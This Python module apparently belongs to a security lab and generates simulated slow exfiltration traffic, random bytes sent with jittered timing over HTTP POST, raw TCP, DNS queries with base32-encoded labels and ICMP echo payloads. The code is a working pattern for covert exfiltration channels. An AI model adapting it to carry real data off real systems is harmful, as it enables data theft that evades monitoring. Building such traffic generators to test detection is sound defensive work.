"""Slow exfiltration: a device that was taken over carries off records, a few hundred octets at a time."""

import base64
import contextlib
import socket
import struct
import time

from tools.lab.attacks.scene import Scene, connect
from tools.lab.frames import icmp_echo

_LABEL = 60


def exfiltration(scene: Scene) -> None:
    """Send records over HTTP, DNS, ICMP or a bare connection to the intruder's machine."""
    {"http": _over_http, "dns": _over_dns, "icmp": _over_icmp, "tcp": _over_tcp}[scene.settings["way"]](scene)


def _wait(scene: Scene) -> None:
    time.sleep(scene.settings["interval"] * scene.random.uniform(0.6, 1.4))


def _record(scene: Scene) -> bytes:
    return scene.random.randbytes(scene.settings["bytes"])


def _over_http(scene: Scene) -> None:
    while scene.left > 0:
        with contextlib.suppress(OSError), connect(scene) as connection:
            body = base64.b64encode(_record(scene))
            connection.sendall(b"POST /u HTTP/1.1\r\nHost: c\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
            connection.recv(512)
        _wait(scene)


def _over_tcp(scene: Scene) -> None:
    with connect(scene) as connection:
        while scene.left > 0:
            connection.sendall(_record(scene))
            _wait(scene)


def _over_dns(scene: Scene) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(0.5)
        while scene.left > 0:
            text = base64.b32encode(_record(scene)[:130]).rstrip(b"=").lower()
            labels = [text[at : at + _LABEL] for at in range(0, len(text), _LABEL)]
            name = b"".join(bytes([len(label)]) + label for label in (*labels, b"c", b"example"))
            question = struct.pack("!HHHHHH", scene.random.getrandbits(16), 0x0100, 1, 0, 0, 0)
            with contextlib.suppress(OSError):
                udp.sendto(question + name + b"\0" + struct.pack("!HH", 16, 1), (scene.victim.address, 53))
                udp.recv(2048)
            _wait(scene)


def _over_icmp(scene: Scene) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as icmp:
        number = 0
        while scene.left > 0:
            icmp.sendto(
                icmp_echo(scene.settings["seed"] & 0xFFFF, number & 0xFFFF, _record(scene)), (scene.victim.address, 0)
            )
            number += 1
            _wait(scene)
